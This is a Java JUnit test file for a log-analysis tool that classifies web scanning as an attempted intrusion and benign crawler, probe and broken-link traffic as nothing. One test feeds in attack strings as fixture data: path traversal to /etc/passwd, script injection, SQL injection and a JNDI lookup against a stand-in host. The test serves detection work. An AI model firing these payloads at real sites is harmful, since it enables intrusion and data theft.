package dwell.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dwell.cli.TextSite.Style;
import dwell.incident.Incident;
import dwell.incident.Verdict;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Who looks for ways into a site tried, and did no more; who reads it did not even try. */
final class WebScanStoriesTest {
  private static final String OUTSIDE = "203.0.113.9";

  @TempDir private Path folder;

  private static void readers(TextHost web) {
    for (int i = 0; i < 60; i++) {
      web.request(
          TextSite.at("3 10:00:00").plusSeconds(i * 311L),
          "198.51.100." + (20 + i % 9),
          "GET /item/" + i % 17,
          200,
          1040,
          Ordinary.BROWSER);
    }
  }

  private static void tried(Incident incident, String ip, long attempts) {
    assertThat(incident.verdict()).isEqualTo(Verdict.ATTEMPT);
    assertThat(incident.actors()).isEmpty();
    assertThat(incident.background().top())
        .singleElement()
        .satisfies(seen -> {
          assertThat(seen.ip()).isEqualTo(ip);
          assertThat(seen.attempts()).isEqualTo(attempts);
        });
    assertThat(incident.answers().getFirst().text()).contains("web server").contains(ip);
    assertThat(incident.answers().getFirst().evidence()).isNotEmpty();
  }

  private static void wordlist(TextHost web, String ip) {
    Instant start = TextSite.at("4 03:00:00");
    for (int i = 0; i < 90; i++) {
      // Under a name of a browser, and a few are there.
      int status = i % 30 == 0 ? 200 : i % 7 == 0 ? 403 : 404;
      web.request(
          start.plusSeconds(i * 2L), ip, "GET /" + i + "/old", status, 153, Ordinary.BROWSER);
    }
  }

  @ParameterizedTest
  @EnumSource
  void aListOfPathsFromOutside(Style style) throws IOException {
    TextSite site = new TextSite(style);
    TextHost web = site.host("web01", "10.1.0.10");
    readers(web);
    wordlist(web, OUTSIDE);
    tried(site.analyze(folder), OUTSIDE, 87);
  }

  /** The own scanner is told like any other: who let it run knows its address. */
  @ParameterizedTest
  @EnumSource
  void aListOfPathsFromOnesOwnNetwork(Style style) throws IOException {
    TextSite site = new TextSite(style);
    TextHost web = site.host("web01", "10.1.0.10");
    readers(web);
    wordlist(web, "10.1.0.77");
    tried(site.analyze(folder), "10.1.0.77", 87);
  }

  /** A site that answers everything with its front page refuses nothing: the requests tell. */
  @ParameterizedTest
  @EnumSource
  void attacksByFormThatAllGotAPage(Style style) throws IOException {
    TextSite site = new TextSite(style);
    TextHost web = site.host("web01", "10.1.0.10");
    readers(web);
    String[] values = {
      "..%2f..%2f..%2fetc/passwd",
      "%3Cscript%3Ealert(1)%3C/script%3E",
      "1%27+UNION+ALL+SELECT+NULL--",
      "%24%7Bjndi:ldap://203.0.113.9/a%7D",
      "1+AND+SLEEP(5)",
      "../../../../proc/self/environ"
    };
    for (int i = 0; i < values.length; i++) {
      web.request(
          TextSite.at("4 03:00:00").plusSeconds(i * 9L),
          OUTSIDE,
          "GET /item?id=" + values[i],
          200,
          1040,
          Ordinary.BROWSER);
    }
    tried(site.analyze(folder), OUTSIDE, values.length);
  }

  private static void crawler(TextHost web) {
    Instant start = TextSite.at("4 00:00:00");
    for (int i = 0; i < 400; i++) {
      boolean gone = i % 5 == 0;
      web.request(
          start.plusSeconds(i * 11L),
          "198.51.100.200",
          "GET /" + (gone ? "removed/" : "item/") + i,
          gone ? 404 : 200,
          gone ? 153 : 1040,
          "Mozilla/5.0 (compatible; examplebot/2.1)");
    }
  }

  @ParameterizedTest
  @EnumSource
  void crawlersMonitorsAndBrokenPages(Style style) throws IOException {
    TextSite site = new TextSite(style);
    TextHost web = site.host("web01", "10.1.0.10");
    readers(web);
    crawler(web);
    for (int i = 0; i < 300; i++) {
      Instant time = TextSite.at("4 00:00:30").plusSeconds(i * 60L);
      web.request(time, "10.1.0.5", "GET /health?n=" + i, 404, 153, "probe/1.0");
      // Old links of long ago, a few a day, over weeks.
      if (i % 60 == 0) {
        web.request(time, "198.51.100.31", "GET /2009/" + i, 404, 153, Ordinary.BROWSER);
      }
    }
    // A page whose images are lost.
    for (int i = 0; i < 15; i++) {
      web.request(
          TextSite.at("4 09:00:01"), "198.51.100.22", "GET /img/" + i, 404, 153, Ordinary.BROWSER);
    }
    for (String words : new String[] {"O%27Brien", "union+select+committee", "sand+and+stone"}) {
      web.request(
          TextSite.at("4 09:10:00"),
          "198.51.100.23",
          "GET /search?q=" + words,
          200,
          900,
          Ordinary.BROWSER);
    }
    Incident incident = site.analyze(folder);
    assertThat(incident.background().top()).isEmpty();
    assertThat(incident.verdict()).isEqualTo(Verdict.NONE);
  }
}
